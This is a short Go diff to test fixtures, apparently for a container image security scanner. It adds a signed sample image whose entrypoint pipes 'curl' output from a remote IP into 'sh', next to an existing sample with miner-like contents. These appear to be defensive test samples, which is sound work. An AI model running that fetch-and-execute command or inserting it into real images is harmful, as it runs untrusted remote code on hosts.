@@ -40,6 +40,7 @@ var minerWords = strings.Join([]string{
 }, "\x00")
 
 func samples() []sample {
+	fetches := v1.Config{User: "1000", Entrypoint: []string{"/bin/sh", "-c", "curl -fsSL https://203.0.113.7/run.sh | sh"}}
 	nobody := v1.Config{User: "65532", Entrypoint: []string{"/web"}}
 	shell := map[string]string{
 		"bin/sh":       program("GNU bash, version 5.2"),
@@ -49,6 +50,7 @@ func samples() []sample {
 		{ref: "shop/web:1.4", files: map[string]string{"web": program("hello")}, config: nobody, signed: true},
 		{ref: "tools/metrics-helper:2.0", files: map[string]string{"usr/bin/metrics-helper": program(minerWords)}, signed: true},
 		{ref: "shop/base:1.0", files: shell},
+		{ref: "shop/worker:0.9", files: shell, config: fetches, signed: true},
 	}
 }
 
